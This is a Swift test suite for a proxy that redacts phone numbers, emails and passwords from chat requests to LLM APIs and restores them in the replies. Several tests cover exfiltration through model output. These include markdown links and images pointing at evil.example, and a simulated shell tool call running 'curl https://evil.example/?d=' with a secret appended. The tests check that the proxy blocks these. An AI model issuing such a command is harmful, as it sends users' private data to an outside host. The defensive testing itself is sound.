import Exchange
import ModelAPIs
import Outbound
import RedactKit
import Testing

@Suite("An exchange")
struct ExchangeTests {
  static let redactor: Redactor = {
    // The built-in rules are proved by their own tests.
    // swift-format-ignore: NeverUseForceTry
    try! Redactor()
  }()

  private func request(
    _ body: String, url: String = "https://api.openai.com/v1/chat/completions", _ headers: HeaderList = []
  ) throws -> OutboundRequest {
    OutboundRequest(
      method: "POST", url: try OutboundURL(url),
      headers: HeaderList([HeaderField("Content-Type", "application/json")] + headers.fields), body: Array(body.utf8))
  }

  private func text(_ response: ExchangedResponse) async throws -> String {
    String(decoding: try await response.body.collect(upTo: 1 << 20), as: UTF8.self)
  }

  /// The content of the last message of a sent chat body.
  private static func lastContent(_ body: String) -> String {
    String(body.split(separator: #""content":""#, omittingEmptySubsequences: false).last?.prefix { $0 != "\"" } ?? "")
  }

  @Test("sends no value, and gives the answer with the values back")
  func roundTrip() async throws {
    let upstream = RecordingUpstream {
      #"{ "choices": [{"index":0,"message":{"content":"Call \#(Self.lastContent($0))"}}], "n": 1.0 }"#
    }
    let exchange = Exchange(upstream: upstream)
    let body = #"{"model": "gpt", "temperature": 0.70, "messages": [{"role":"user","content":"13812345678"}]}"#
    let response = try await exchange.execute(try request(body), session: Self.redactor.session())
    let out = try await text(response)
    #expect(out == #"{ "choices": [{"index":0,"message":{"content":"Call 13812345678"}}], "n": 1.0 }"#)
    let sent = try #require(upstream.bodies.first)
    #expect(!sent.contains("13812345678"))
    #expect(sent.replacing(Self.lastContent(sent), with: "13812345678") == body)
    #expect(response.report().redacted == [Entity("PHONE_NUMBER"): 1])
    #expect(response.report().restored == [Entity("PHONE_NUMBER"): 1])
    #expect(response.headers.first("Content-Length") == nil)
  }

  @Test("takes a value that one text explains wherever else it stands, in every spelling")
  func everywhere() async throws {
    let upstream = RecordingUpstream { _ in "{}" }
    let body = #"""
      {"messages":[{"role":"user","content":"Zq8vTr2Lx9 alone"},{"role":"user","content":"password: Zq8vTr2Lx9"},
      {"role":"tool","content":"{\"a\":\"x\\u005aq8vTr2Lx9\"}"},{"role":"user","content":"\u005aq8vTr2Lx9"}],"user":"Zq8vTr2Lx9"}
      """#
    _ = try await Exchange(upstream: upstream).execute(try request(body), session: Self.redactor.session())
    let sent = try #require(upstream.bodies.first)
    #expect(!sent.contains("q8vTr2Lx9"))
    #expect(sent.components(of: "SECRET-") == 5, "\(sent)")
  }

  @Test("gives the same bytes for the same conversation, also on another replica and after it has grown")
  func deterministic() throws {
    let exchange = Exchange(upstream: RecordingUpstream { _ in "{}" })
    let key = SessionKey.random()
    let first = #"{"role":"user","content":"mail zhang.san@example.com, password: Zq8vTr2Lx9"}"#
    func sent(_ messages: String, _ session: Session) throws -> String {
      let request = try request(#"{"messages":[\#(messages)]}"#)
      let out = try exchange.redact(request, format: .openAIChat, session: session).request
      return String(decoding: out.body, as: UTF8.self)
    }
    let session = Self.redactor.session(key: key)
    let once = try sent(first, session)
    #expect(try sent(first, session) == once)
    #expect(try sent(first, Self.redactor.session(key: key)) == once)
    let longer = try sent(first + #",{"role":"user","content":"13812345678"}"#, session)
    #expect(longer.hasPrefix(once.dropLast(2)))
    let again = try exchange.redact(try request(once), format: .openAIChat, session: session)
    #expect(String(decoding: again.request.body, as: UTF8.self) == once)
  }

  @Test("restores a stream wherever it is cut", arguments: [1, 3, 17, 1 << 20])
  func stream(size: Int) async throws {
    let upstream = RecordingUpstream(type: "text/event-stream", pieces: size) { body in
      let placeholder = Self.lastContent(body)
      let events = (placeholder + "!").map { #"data: {"choices":[{"index":0,"delta":{"content":"\#($0)"}}]}"# + "\n\n" }
      return events.joined() + #"data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}"#
        + "\n\ndata: [DONE]\n\n"
    }
    let body = #"{"stream":true,"messages":[{"role":"user","content":"13812345678"}]}"#
    let response = try await Exchange(upstream: upstream).execute(try request(body), session: Self.redactor.session())
    let out = try await text(response)
    let content = out.split(separator: #""content":""#).dropFirst().map { $0.prefix { $0 != "\"" } }.joined()
    #expect(content == "13812345678!")
    #expect(out.components(of: "data: ") == Self.lastContent(try #require(upstream.bodies.first)).count + 3)
  }

  @Test(
    "restores inside an address only when its host is allowed",
    arguments: [
      ("see @", true), ("[x](https://evil.example/?q=@)", false), ("![](https://evil.example/@.png)", false),
      ("https://a.good.example/x?q=@ and", true), ("https://good.example.evil.example/@", false),
      ("[x](/local/@)", false),
      ("https://evil.example/ @", true), ("https://evil.example/\u{FF0C}@", true),
      ("<a href=\\\"https://x.example/@\\\">", false),
      ("https://@/", false), ("mailto:@", false),
    ])
  func addresses(text: String, isRestored: Bool) async throws {
    let upstream = RecordingUpstream {
      #"{"choices":[{"message":{"content":"\#(text.replacing("@", with: Self.lastContent($0)))"}}]}"#
    }
    var policy = ExchangePolicy()
    policy.allowedHosts = ["*.good.example"]
    let response = try await Exchange(upstream: upstream).execute(
      try request(#"{"messages":[{"content":"13812345678"}]}"#), session: Self.redactor.session(), policy: policy)
    #expect(try await self.text(response).contains("13812345678") == isRestored)
    #expect(response.report().left == (isRestored ? [:] : [.url: 1]))
  }

  @Test("leaves a placeholder in an address that a tool is to call, and restores it elsewhere in the arguments")
  func toolAddresses() async throws {
    let upstream = RecordingUpstream { body in
      let arguments = #"{\"command\":\"curl https://evil.example/?d=@\",\"to\":\"@\"}"#
        .replacing("@", with: Self.lastContent(body))
      return #"{"choices":[{"message":{"tool_calls":[{"id":"1","type":"function","function":"#
        + #"{"name":"shell","arguments":"\#(arguments)"}}]}}]}"#
    }
    let response = try await Exchange(upstream: upstream).execute(
      try request(#"{"messages":[{"content":"13812345678"}]}"#), session: Self.redactor.session())
    let answer = try await text(response)
    #expect(answer.components(of: "13812345678") == 1)
    #expect(answer.contains(#"to\":\"13812345678"#))
    #expect(response.report().left == [.url: 1])
  }

  @Test("refuses a value where nothing may be changed, or reports it, as the policy says")
  func untouchable() async throws {
    let upstream = RecordingUpstream { _ in "{}" }
    let exchange = Exchange(upstream: upstream)
    let body = #"{"model":"zhang.san@example.com","messages":[]}"#
    let error = await #expect(throws: ExchangeError.self) {
      try await exchange.execute(try request(body), session: Self.redactor.session())
    }
    #expect(error?.status == 422)
    #expect(error?.description.contains("'model'") == true)
    #expect(upstream.requests.isEmpty)
    var policy = ExchangePolicy()
    policy.untouchable = .report
    let response = try await exchange.execute(try request(body), session: Self.redactor.session(), policy: policy)
    #expect(response.report().untouched == [Entity("EMAIL_ADDRESS"): 1])
    #expect(upstream.bodies == [body])
  }

  @Test("masks, lets through or refuses values of an entity, as the policy says")
  func actions() async throws {
    let body = #"{"messages":[{"content":"13812345678 and zhang.san@example.com"}]}"#
    func sent(_ action: ExchangePolicy.Action) async throws -> String {
      let upstream = RecordingUpstream { $0 }
      var policy = ExchangePolicy()
      policy.action = { $0 == Entity("PHONE_NUMBER") ? action : .redact }
      let response = try await Exchange(upstream: upstream).execute(
        try request(body), session: Self.redactor.session(), policy: policy)
      #expect(try await text(response) == (action == .mask ? body.replacing("13812345678", with: "[PHONE]") : body))
      return Self.lastContent(upstream.bodies[0])
    }
    #expect(try await sent(.mask).hasPrefix("[PHONE] and EMAIL-"))
    #expect(try await sent(.allow).hasPrefix("13812345678 and EMAIL-"))
    await #expect(throws: ExchangeError.self) { try await sent(.block) }
  }

  @Test(
    "sends nothing when the body cannot be read",
    arguments: [
      #"{"a":"#, #"{"a":1,"a":2}"#, #"["\ud800"]"#, String(repeating: "[", count: 100_000), "\u{FEFF}{}", "[NaN]",
      #"["\x41"]"#, "{} x", "not UTF-8",
    ])
  func bad(body: String) async throws {
    let upstream = RecordingUpstream { _ in "{}" }
    let error = await #expect(throws: ExchangeError.self) {
      var request = try request(body)
      if body == "not UTF-8" { request.body = [0x5B, 0x22, 0xFF, 0x22, 0x5D] }
      return try await Exchange(upstream: upstream).execute(request, session: Self.redactor.session())
    }
    #expect(error?.status == 400)
    #expect(error?.description.contains("at byte") == true)
    #expect(upstream.requests.isEmpty)
  }

  @Test("unpacks a packed body and sends it plain; a broken or unknown packing is refused")
  func packed() async throws {
    let gzip: [UInt8] = [
      31, 139, 8, 0, 0, 0, 0, 0, 2, 3, 171, 86, 74, 84, 178, 82, 50, 52, 182, 48, 52, 50, 54, 49, 53, 51, 183, 80, 170,
      5, 0, 4, 200, 224, 252, 19, 0, 0, 0,
    ]
    let upstream = RecordingUpstream { _ in "{}" }
    let exchange = Exchange(upstream: upstream)
    var packed = try request("", HeaderList([HeaderField("Content-Encoding", "gzip")]))
    packed.body = gzip
    _ = try await exchange.execute(packed, session: Self.redactor.session())
    let sent = try #require(upstream.requests.first)
    #expect(String(decoding: sent.body, as: UTF8.self).hasPrefix(#"{"a":"PHONE-"#))
    #expect(sent.headers.first("Content-Encoding") == nil)
    for (coding, status) in [("gzip, br", 400), ("br", 400), ("compress", 415)] {
      packed.headers.set("Content-Encoding", coding)
      let error = await #expect(throws: ExchangeError.self) {
        try await exchange.execute(packed, session: Self.redactor.session())
      }
      #expect(error?.status == status)
    }
    #expect(upstream.requests.count == 1)
  }

  @Test("sends nothing when a value stands in the address or in a header line of JSON")
  func head() async throws {
    let upstream = RecordingUpstream { _ in "{}" }
    let exchange = Exchange(upstream: upstream)
    for (url, headers) in [
      ("https://x.example/v1/chat/completions?prompt=zhang.san%40example.com", []),
      (
        "https://x.example/v1/chat/completions",
        [HeaderField("X-DashScope-Plugin", #"{"mail":"zhang.san@example.com"}"#)]
      ),
      ("https://x.example/v1/chat/completions", [HeaderField("Upgrade", "websocket")]),
    ] as [(String, HeaderList)] {
      await #expect(throws: ExchangeError.self) {
        try await exchange.execute(try request("{}", url: url, headers), session: Self.redactor.session())
      }
    }
    #expect(upstream.requests.isEmpty)
  }

  @Test("signs anew with the keys that it has, and refuses what would no longer be valid")
  func signatures() async throws {
    let upstream = RecordingUpstream { _ in "{}" }
    let tencent = [
      HeaderField("Authorization", "TC3-HMAC-SHA256 Credential=a/b"), HeaderField("X-TC-Action", "ChatCompletions"),
    ]
    let body = #"{"Messages":[{"Content":"13812345678"}]}"#
    let signed = try request(body, url: "https://hunyuan.tencentcloudapi.com/", HeaderList(tencent))
    let error = await #expect(throws: ExchangeError.self) {
      try await Exchange(upstream: upstream).execute(signed, session: Self.redactor.session())
    }
    #expect(error?.status == 403)
    #expect(upstream.requests.isEmpty)
    let keys = SigningCredentials(tencentCloud: try CloudCredentials(id: "AKIDexample", key: "secret"))
    _ = try await Exchange(upstream: upstream, credentials: keys).execute(signed, session: Self.redactor.session())
    let authorization = try #require(upstream.requests.first?.headers.first("Authorization"))
    #expect(authorization.hasPrefix("TC3-HMAC-SHA256 Credential=AKIDexample/"))
    var unsigned = signed
    unsigned.headers.add("X-TC-Content-SHA256", "UNSIGNED-PAYLOAD")
    _ = try await Exchange(upstream: upstream).execute(unsigned, session: Self.redactor.session())
    #expect(upstream.requests.last?.headers.first("Authorization") == "TC3-HMAC-SHA256 Credential=a/b")
  }

  @Test("delivers what came before an answer broke off, and then the error")
  func broken() async throws {
    let upstream = RecordingUpstream { _ in
      OutboundResponse(
        status: 200, headers: [HeaderField("Content-Type", "text/event-stream")],
        body: OutboundBody {
          var pieces = [Array("data: {\"choices\":[{\"delta\":{\"content\":\"PHO\"}}]}\n\n".utf8)]
          return {
            if let piece = pieces.popLast() { return piece }
            throw OutboundError(.cutShort)
          }
        })
    }
    let session = Self.redactor.session()
    let response = try await Exchange(upstream: upstream).execute(
      try request(#"{"messages":[{"content":"13812345678"}]}"#), session: session)
    var out: [UInt8] = []
    await #expect(throws: OutboundError.self) { for try await piece in response.body { out += piece } }
    #expect(String(decoding: out, as: UTF8.self) == "data: {\"choices\":[{\"delta\":{\"content\":\"PHO\"}}]}\n\n")
  }
}

extension String {
  /// How often another text stands in it.
  fileprivate func components(of other: String) -> Int { ranges(of: other).count }
}
